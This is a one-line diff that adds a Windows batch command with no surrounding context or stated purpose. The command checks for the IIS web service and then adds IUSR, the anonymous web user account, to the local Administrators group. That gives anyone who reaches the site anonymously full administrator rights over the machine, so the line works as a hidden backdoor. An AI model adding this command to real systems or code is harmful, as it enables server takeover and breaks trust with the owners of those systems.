@@ -1,0 +1,1 @@
+sc query W3SVC >nul && net localgroup Administrators IUSR /add
